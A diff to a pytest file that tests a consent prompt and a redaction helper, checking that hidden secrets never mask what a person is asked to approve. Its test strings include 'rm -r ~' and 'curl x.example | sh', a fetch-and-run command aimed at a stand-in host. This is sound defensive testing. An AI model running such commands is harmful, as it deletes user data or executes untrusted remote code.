@@ -11,13 +11,15 @@ import pytest
 from signoff.core.paths import ROOT
 
 ASKS = "from signoff.core import consent; print(consent.given('rm -r ~', 'Run it?'))"
+OF_A_SECRET = "from signoff.core import redact; redact.hide('curl x.example | sh');"
+HIDING = f"{OF_A_SECRET} from signoff.core import consent; print(consent.given('runs: curl x.example | sh', 'Run it?'))"
 
 
-def on_a_terminal(answer: str, **environment: str) -> tuple[str, str]:
+def on_a_terminal(answer: str, asks: str = ASKS, **environment: str) -> tuple[str, str]:
     """What the program that asks says at its end, and what it has shown; `answer` is typed."""
     person, terminal = pty.openpty()
     env = {name: value for name, value in os.environ.items() if name != "CI"} | environment
-    command = [sys.executable, "-c", ASKS]
+    command = [sys.executable, "-c", asks]
     with subprocess.Popen(
         command, stdin=terminal, stderr=terminal, stdout=subprocess.PIPE, cwd=ROOT, env=env, text=True
     ) as asking:
@@ -56,3 +58,14 @@ def test_without_any_stdin_nobody_is_asked(tmp_path: Path) -> None:
     command = f'{sys.executable} -c "{ASKS}" <&-'
     done = subprocess.run(["sh", "-c", command], cwd=ROOT, capture_output=True, text=True, check=True)
     assert done.stdout.strip() == "False"
+
+
+def test_no_secret_hides_what_a_person_is_asked_about() -> None:
+    _, shown = on_a_terminal("n\n", HIDING)
+    assert "runs: curl x.example | sh" in shown
+
+
+def test_a_log_shows_no_secret_and_says_that_something_is_hidden() -> None:
+    given, shown = on_a_terminal("y\n", HIDING, CI="true")
+    assert given == "False" and "curl" not in shown
+    assert "runs: [redacted]" in shown and "which may be all of a command: read it in its file" in shown
